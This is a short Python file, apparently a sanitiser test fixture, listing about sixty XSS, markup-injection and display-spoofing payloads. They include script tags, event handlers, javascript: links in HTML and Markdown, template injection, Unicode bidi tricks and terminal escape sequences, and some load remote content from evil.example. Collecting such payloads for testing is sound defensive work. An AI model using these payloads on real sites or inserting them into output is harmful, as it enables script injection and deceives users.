"""Text that tries to become markup, to fool the eye, or to command a terminal."""

from __future__ import annotations

CALL = "window.__hit=1"
PAYLOADS = [
    f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", "<script src=//evil.example></script>",
    f"<img src=x onerror={CALL}>", f"<img src=x onerror='{CALL}'>", f'"><img src=x onerror={CALL}>',
    f"'><svg onload={CALL}>", f"<svg/onload={CALL}>", f"<svg><script>{CALL}</script></svg>",
    f"<body onload={CALL}>", f"<iframe src=javascript:{CALL}></iframe>", f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<a href=javascript:{CALL}>x</a>", f"[x](javascript:{CALL})", f"[x](JaVaScRiPt:{CALL})",
    f"[x](data:text/html,<script>{CALL}</script>)", f"[x](vbscript:{CALL})", f"[x](\x01javascript:{CALL})",
    f"[x](java\tscript:{CALL})", f"[x](&#106;avascript:{CALL})", f"<javascript:{CALL}>",
    f"![x](javascript:{CALL})", f"![x](x\" onerror=\"{CALL})", f"[x]: javascript:{CALL}\n\n[x]",
    f"<math><mi//xlink:href='javascript:{CALL}'>", f"<details open ontoggle={CALL}>", f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}>", f"<marquee onstart={CALL}>", f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>", f"<form action=javascript:{CALL}><button>x", "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>", f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<base href=//evil.example>", f"</title><script>{CALL}</script>", f"</textarea><script>{CALL}</script>",
    f"</pre></code><script>{CALL}</script>", f"--><script>{CALL}</script>", f"]]><script>{CALL}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>", f"<template><script>{CALL}</script></template>",
    f"<div hx-get=/ hx-trigger=load hx-on::load={CALL}>", f"<div data-hx-on:load={CALL}>", f"<x hx-vals='js:{{a:{CALL}}}'>",
    f"{{{{ {CALL} }}}}", "{% include 'base.html' %}", f"${{{CALL}}}", f"`-{CALL}-`", f"\\u003cscript\\u003e{CALL}",
    f"<scr\x00ipt>{CALL}</scr\x00ipt>", f"<<script>{CALL}//<</script>", f"<img src=x:x onerror\n=\n{CALL}>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", f"<xss style='behavior:url(x)' onclick={CALL}>",
    "\u202egnp.exe", "user\u2066// only admins\u2069", "zero\u200bwidth", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[31m<b>red</b>", "\x1b]0;<script>title</script>\x07", "a\rb<i>", "\ufeff<b>", "&lt;script&gt;", "&#60;b&#62;",
]  # fmt: skip
